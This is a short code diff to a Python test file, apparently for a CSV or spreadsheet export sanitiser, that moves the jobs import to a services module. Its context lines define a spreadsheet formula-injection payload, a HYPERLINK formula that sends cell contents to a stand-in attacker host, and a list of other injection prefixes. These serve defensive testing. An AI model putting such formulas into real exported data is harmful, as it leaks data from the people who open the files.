@@ -14,8 +14,9 @@ import io
 import numpy as np
 import pandas as pd
 
-from aihub import datasets, exports, jobs, predictive, registry
+from aihub import datasets, exports, predictive, registry
 from aihub.demo import generate_customers
+from aihub.services import jobs
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
 CELLS = [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "plain", "-12.5", "+3", "1e-3", ""]
